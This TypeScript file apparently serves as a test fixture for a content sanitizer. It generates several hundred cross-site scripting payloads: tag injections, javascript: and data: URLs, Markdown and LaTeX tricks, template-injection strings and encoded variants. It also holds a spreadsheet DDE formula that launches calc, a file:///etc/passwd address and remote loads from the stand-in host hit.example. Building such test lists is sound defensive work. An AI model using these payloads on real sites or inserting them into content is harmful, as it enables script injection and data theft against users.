// What somebody writes who wants a script to run where words should stand. Each one, run by a browser, would set `boughHit`, open a
// dialog, or ask hit.example for something: three things that a test can see.

const RUN = 'boughHit=1';
const FAR = '//hit.example/x';

const OPENERS = [
  '',
  '"><',
  "'><",
  '</title><',
  '</style><',
  '</textarea><',
  '</script><',
  '--><',
  ']]><',
  '</text></svg><',
  '" ',
  "' ",
  '\n<',
  '&lt;<',
] as const;

/** Without the `<` that some openers end with. */
const TAGS = [
  `script>${RUN}</script>`,
  `script src=${FAR}></script>`,
  `ScRiPt>alert(1)</sCrIpT>`,
  `script\n>${RUN}</script >`,
  `img src=x onerror=${RUN}>`,
  `img src=${FAR}>`,
  `img/src=x/onerror=${RUN}//`,
  `svg onload=${RUN}>`,
  `svg><script>${RUN}</script></svg>`,
  `svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `svg><a xlink:href="javascript:${RUN}"><text x=9 y=9>a</text></a></svg>`,
  `svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x">`,
  `svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"/></foreignObject></svg>`,
  `svg><image href="${FAR}"/></svg>`,
  `svg><style>@import '${FAR}'</style></svg>`,
  `math><mtext><table><mglyph><style><img src onerror=${RUN}>`,
  `iframe src="javascript:parent.${RUN}"></iframe>`,
  `iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `object data="javascript:${RUN}"></object>`,
  `embed src="${FAR}">`,
  `body onload=${RUN}>`,
  `details open ontoggle=${RUN}>`,
  `input autofocus onfocus=${RUN}>`,
  `video><source onerror=${RUN}></video>`,
  `audio src=x onerror=${RUN}>`,
  `marquee onstart=${RUN}>`,
  `a href="javascript:${RUN}">a</a>`,
  `form action="javascript:${RUN}"><button>a</button></form>`,
  `link rel=stylesheet href=${FAR}>`,
  `meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `base href="${FAR}">`,
  `style>*{background:url(${FAR})}</style>`,
  `template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `x style="animation-name:x" onanimationstart=${RUN}>`,
  `xss onpointerover=${RUN} style=position:fixed;inset:0>`,
] as const;

const ALONE = [
  `[a](javascript:${RUN})`,
  `![a](${FAR})`,
  `![a](x" onerror="${RUN})`,
  `[a](<javascript:${RUN}>)`,
  `[a]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `[a](data:text/html,<script>${RUN}</script>)`,
  `[<img src=x onerror=${RUN}>](https://a.example)`,
  '`<img src=x onerror=boughHit=1>`',
  `$\\href{javascript:${RUN}}{x}$`,
  `$\\style{background:url(${FAR})}{x}$`,
  `$$\\require{html}\\class{x" onload="${RUN}}{y}$$`,
  `$\\unicode{x3c}img src=x onerror=${RUN}\\unicode{x3e}$`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `=HYPERLINK("http:${FAR}","a")`,
  `=cmd|'/C calc'!A0`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u2028${RUN}//`,
  `"-${RUN}-"`,
  `';${RUN};//`,
  '</script><!--',
  `__proto__`,
  `constructor`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `file:///etc/passwd`,
  `blob:null/${RUN}`,
] as const;

/** Each of them once; the same list at every call. */
export function scriptPayloads(): readonly string[] {
  const made = OPENERS.flatMap((opener) =>
    TAGS.map((tag) => `${opener}${opener.endsWith('<') || opener.endsWith(' ') ? '' : '<'}${tag}`),
  );
  return [...new Set([...ALONE, ...made])];
}

/** Addresses that a link must not lead to. */
export function scriptAddresses(): readonly string[] {
  // oxlint-disable-next-line no-control-regex -- browsers overlook these before an address
  return ALONE.filter((each) => /^[\u0000-\u0020]*(?:java\s*script|vbscript|data|file|blob):/i.test(each));
}
